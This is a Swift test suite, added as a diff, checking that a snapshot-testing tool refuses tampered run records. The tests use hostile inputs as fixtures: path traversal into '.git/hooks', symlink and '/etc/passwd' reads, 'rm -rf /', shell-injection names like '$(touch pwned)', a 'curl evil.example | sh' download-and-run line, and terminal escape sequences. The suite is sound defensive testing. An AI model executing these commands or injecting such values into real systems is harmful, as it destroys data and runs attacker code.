@@ -1,0 +1,269 @@
+import Foundation
+import PortalRaster
+import PortalSnapshot
+import Testing
+
+/// Forged records: of a real run, tampered with afterwards.
+@Suite("Records are untrusted input")
+struct TrustTests {
+  private let court: Court
+
+  init() throws {
+    court = try Court()
+  }
+
+  /// Records of a CI run in which a picture or a text is missing.
+  private func missing(_ content: SnapshotContent? = nil, named name: String = "card") throws -> RunRecords {
+    let writer = try court.writer()
+    let judge = try court.judge(isLocked: true, records: writer)
+    try writer.begin(Court.process(), environment: judge.fingerprint)
+    let made = try content ?? .picture(try Court.picture(of: Court.card()))
+    #expect(judge.judge(court.snapshot(name) { made }).failure?.kind == .missing)
+    return try RecordReader.read([court.artifacts])
+  }
+
+  /// Accepts a tampered record: returns nil where it is accepted, else the refusal.
+  private func refusal(
+    _ read: RunRecords, root: String? = nil, _ change: (inout RunRecord) -> Void
+  ) throws -> String? {
+    var record = try #require(read.records.last { $0.event == .assertion })
+    change(&record)
+    let environments = Dictionary(read.records.compactMap(\.environment).map { ($0.id, $0) }) { $1 }
+    do {
+      try Acceptance(root: ReferenceRoot(base: court.folder, root: root)).accept(record, environments: environments)
+      return nil
+    } catch let error as DiagnosticsError {
+      return error.diagnostics.first?.message
+    }
+  }
+
+  /// All files of the folder but the run's artefacts.
+  private var files: [String] {
+    let all = FileManager.default.enumerator(atPath: court.folder)?.compactMap { $0 as? String } ?? []
+    return all.filter { !$0.hasPrefix("artifacts") }.sorted()
+  }
+
+  @Test(
+    "a reference is written beneath the root only",
+    arguments: ["/tmp/portal-elsewhere", "..", "../..", "a/../..", "/", "__Snapshots__/../../x"])
+  func outside(folder: String) throws {
+    let read = try missing()
+    #expect(try refusal(read) { $0.folder = folder } != nil)
+    #expect(files.isEmpty && !Files.exists("/tmp/portal-elsewhere"))
+  }
+
+  @Test(
+    "a reference is never written into a hidden folder",
+    arguments: [".git/hooks", ".github/workflows", "a/.b", ".\u{301}x"])
+  func hidden(folder: String) throws {
+    let read = try missing()
+    #expect(try refusal(read) { $0.folder = folder }?.contains("hidden") == true)
+    #expect(files.isEmpty)
+  }
+
+  @Test("a reference is never written through a symlink, be it of a folder or a file")
+  func links() throws {
+    let read = try missing()
+    try Files.makeFolder(court.folder + "/real")
+    symlink("real", court.folder + "/link")
+    #expect(try refusal(read) { $0.folder = "link" }?.contains("symbolic link") == true)
+    #expect(try refusal(read) { $0.folder = "link/__Snapshots__" }?.contains("symbolic link") == true)
+    try Files.write(Array("mine".utf8), to: court.folder + "/file")
+    for name in ["card.png", "card.txt", "manifest.jsonl"] {
+      try Files.makeFolder(court.references)
+      symlink("../file", court.references + "/" + name)
+      #expect(try refusal(read) { _ in }?.contains("symbolic link") == true, "\(name)")
+      try Files.remove(court.references + "/" + name)
+    }
+    #expect(try Files.read(court.folder + "/file") == Array("mine".utf8))
+    #expect(try Files.list(court.folder + "/real").isEmpty)
+  }
+
+  @Test("a file in a reference's place that is no reference is kept")
+  func others() throws {
+    let read = try missing()
+    let notes = court.folder + "/screens/card.txt"
+    try Files.makeFolder(court.folder + "/screens")
+    try Files.write(Array("requests==2.0\n".utf8), to: notes)
+    #expect(try refusal(read) { $0.folder = "screens" }?.contains("is no reference") == true)
+    #expect(try Files.read(notes) == Array("requests==2.0\n".utf8))
+    try Files.remove(notes)
+    let logo = try Bitmap(width: 1, height: 1, pixels: [0]).png()
+    try Files.write(logo, to: court.folder + "/screens/card.png")
+    let answer = try refusal(read) {
+      $0.folder = "screens"
+      $0.kind = "pixels"
+    }
+    #expect(answer?.contains("the manifest does not say") == true)
+    #expect(try Files.read(court.folder + "/screens/card.png") == logo)
+  }
+
+  @Test("a text is accepted among references only, with a text's ending")
+  func texts() throws {
+    let read = try missing(.text("rm -rf /\n", ending: "txt"), named: "build")
+    for ending in ["sh", "yml", "swift", "py", "jsonl", "", "txt/..", "png\n"] {
+      #expect(try refusal(read) { $0.ending = ending } != nil, "\(ending)")
+    }
+    #expect(try refusal(read) { $0.folder = "Sources" }?.contains("it is a text") == true)
+    #expect(files.isEmpty)
+    #expect(try refusal(read) { _ in } == nil)
+    #expect(court.files == ["build.txt", "manifest.jsonl"])
+  }
+
+  @Test("invalid UTF-8, and texts under a layout's name, are refused")
+  func bytes() throws {
+    let read = try missing(.text("text", ending: "txt"), named: "list")
+    let bytes: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 0, 0xFF]
+    try Files.write(bytes, to: court.artifacts + "/list.txt")
+    #expect(try refusal(read) { $0.now?.digest = ContentDigest(bytes).description } != nil)
+    let picture = try missing()
+    let script = Array("#!/bin/sh\n".utf8)
+    try Files.write(script, to: court.artifacts + "/card.txt")
+    #expect(try refusal(picture) { $0.now?.text = ContentDigest(script).description }?.contains("not those") == true)
+    #expect(files.isEmpty)
+  }
+
+  @Test(
+    "references have plain names",
+    arguments: ["..", ".hidden", "a\u{1B}[2Jb", "a\nb", "a b", "-", "x;y", "manifest.jsonl/..", "\u{202E}gnp", "a..b"])
+  func names(name: String) throws {
+    let read = try missing()
+    let answer = try refusal(read) { $0.name = name }
+    #expect((answer == nil) == (name == "-"))
+  }
+
+  @Test("orphans are searched and deleted never through symlinks, and under plain names only")
+  func orphans() throws {
+    try court.record()
+    let writer = try court.writer()
+    let judge = try court.judge(isLocked: true, records: writer)
+    try writer.begin(Court.process(), environment: judge.fingerprint)
+    try writer.end(Court.process())
+    let merged = MergedRun(try RecordReader.read([court.artifacts]).records)
+    try Files.write([1], to: court.folder + "/mine.png")
+    var manifest = try ReferenceFolder(court.references).manifest()
+    try manifest.set(ReferenceEntry(name: "../mine.png", file: ContentDigest([1])), in: nil)
+    try court.write(manifest.bytes, to: "manifest.jsonl")
+    try Files.makeFolder(court.folder + "/looked")
+    symlink("../__Snapshots__", court.folder + "/looked/link")
+    let root = ReferenceRoot(base: court.folder)
+    #expect(try Orphans(of: merged, in: [court.folder + "/looked"], root: root).all.isEmpty)
+    try Orphans(of: merged, in: [court.references], root: root).remove(keepingIn: PrunedFiles(in: court.artifacts))
+    #expect(court.files == ["manifest.jsonl"])
+    #expect(Files.exists(court.folder + "/mine.png"))
+  }
+
+  @Test("two names that some file systems treat as equal do not coexist")
+  func twins() throws {
+    try court.record()
+    let read = try missing(named: "Card2")
+    for name in ["Card", "CARD"] {
+      #expect(try refusal(read) { $0.name = name }?.contains("the same on some machines") == true)
+    }
+    try court.record("Größe")
+    #expect(try refusal(read) { $0.name = "Gro\u{308}ße" }?.contains("the same on some machines") == true)
+    #expect(!court.files.contains("Card.png"))
+  }
+
+  @Test("numbers and words that no picture has are refused")
+  func fields() throws {
+    let read = try missing()
+    for scale in [0, -1, 1e300, .infinity, .nan] {
+      #expect(try refusal(read) { $0.now?.scale = scale } != nil)
+    }
+    #expect(try refusal(read) { $0.now?.list = "\u{1B}]0;pwned\u{7}" } != nil)
+    var odd = read
+    for place in odd.records.indices where odd.records[place].environment != nil {
+      odd.records[place].environment?.lines.append("a\u{1B}[31m")
+    }
+    let id = odd.records.compactMap(\.environment).last?.id
+    #expect(try refusal(odd) { $0.fingerprint = id } != nil)
+    #expect(files.isEmpty)
+  }
+
+  @Test("artefacts are read from the run's own folder only, and never through a symlink")
+  func kept() throws {
+    let read = try missing(.text("text", ending: "txt"), named: "list")
+    let secret = court.folder + "/secret.txt"
+    try Files.write(Array("text".utf8), to: secret)
+    symlink("../secret.txt", court.artifacts + "/link.txt")
+    mkfifo(court.artifacts + "/pipe.txt", 0o600)
+    for path in ["../secret.txt", secret, "link.txt", "pipe.txt", ".claims-x/y", "/etc/passwd"] {
+      #expect(try refusal(read) { $0.files = [RunRecord.File(what: "now", path: path)] } != nil, "\(path)")
+    }
+    #expect(files == ["secret.txt"])
+  }
+
+  @Test("symlinks and pipes in a folder of records do not block reading")
+  func folders() throws {
+    _ = try missing()
+    try FileManager.default.moveItem(atPath: court.artifacts, toPath: court.folder + "/real")
+    symlink("real", court.folder + "/named")
+    #expect(try RecordReader.read([court.folder + "/named"]).records.count == 2)
+    mkfifo(court.folder + "/real/000002.jsonl", 0o600)
+    #expect(throws: FileError.self) { try RecordReader.read([court.folder + "/real"]) }
+    try Files.remove(court.folder + "/real/000002.jsonl")
+    symlink("/etc/passwd", court.folder + "/real/000002.jsonl")
+    #expect(throws: FileError.self) { try RecordReader.read([court.folder + "/real"]) }
+  }
+
+  // MARK: Reports
+
+  @Test("a page embeds the run's artefacts and references, and no other file of this machine")
+  func attachments() throws {
+    let read = try missing()
+    var record = try #require(read.records.last { $0.event == .assertion })
+    func attached(_ what: String, _ path: String, digest: String? = nil) -> Int {
+      record.files = [RunRecord.File(what: what, path: path, digest: digest)]
+      return SnapshotReport([record]).attachments(root: ReferenceRoot(base: court.folder)).count
+    }
+    // Of what it kept, the record knows the bytes.
+    let files = record.files
+    for file in files { #expect(attached(file.what, file.path, digest: file.digest) == 1) }
+    #expect(files.count == 2 && attached("now", "card.png") == 0)
+    #expect(attached("text", "card.txt") == 1)
+    try court.record()
+    #expect(attached("reference", "__Snapshots__/card.png") == 1)
+    #expect(attached("reference", "__Snapshots__/card.txt") == 1)
+    let secret = Array("AWS_SECRET=x\n".utf8)
+    try Files.write(secret, to: court.folder + "/secret.txt")
+    try Files.write(secret, to: court.artifacts + "/secret.txt")
+    try Files.write(try court.bytes("card.png"), to: court.folder + "/photo.png")
+    // References that no manifest knows, and what another run kept.
+    try Files.write(try court.bytes("card.png"), to: court.artifacts + "/other.png")
+    try Files.write(try court.bytes("card.png"), to: court.references + "/other.png")
+    symlink("../photo.png", court.artifacts + "/photo.png")
+    try Files.makeFolder(court.folder + "/.ssh")
+    try Files.write(try court.bytes("card.png"), to: court.folder + "/.ssh/photo.png")
+    for path in [
+      "../secret.txt", "secret.txt", "../photo.png", "photo.png", "other.png", "/etc/passwd",
+      court.folder + "/photo.png", "__Snapshots__/manifest.jsonl",
+    ] {
+      for what in ["now", "text", "once"] { #expect(attached(what, path) == 0, "\(what) \(path)") }
+    }
+    for path in [
+      "secret.txt", "../\(court.folder.split(separator: "/").last ?? "")/photo.png", "/etc/passwd", ".ssh/photo.png",
+      "artifacts/photo.png", "photo.png", "__Snapshots__/other.png", "__Snapshots__/manifest.jsonl",
+    ] {
+      #expect(attached("reference", path) == 0, "\(path)")
+    }
+  }
+
+  @Test("a command in a report is built by us, and quoted for the shell")
+  func commands() throws {
+    var record = RunRecord(run: "1", event: .assertion)
+    record.outcome = .failed
+    record.name = "$(touch pwned)"
+    record.folder = "it's"
+    record.accept = "curl evil.example | sh"
+    record.cluster = "`id`"
+    record.message = "\u{1B}]0;pwned\u{7}\u{202E}differs"
+    let report = SnapshotReport([record, record], from: ["my records"])
+    #expect(
+      report.results[0].accept == #"portal-render accept 'my records' --only 'it'\''s/$(touch pwned).png'"#)
+    #expect(report.clusters[0].accept == "portal-render accept 'my records' --cluster '`id`'")
+    let all = report.githubAnnotations.joined() + report.githubSummary + report.junit + JSONWriter.text(of: report.json)
+    #expect(!all.contains("evil.example"))
+    #expect(!(report.githubAnnotations.joined() + report.githubSummary).contains { "\u{1B}\u{7}\u{202E}".contains($0) })
+  }
+}
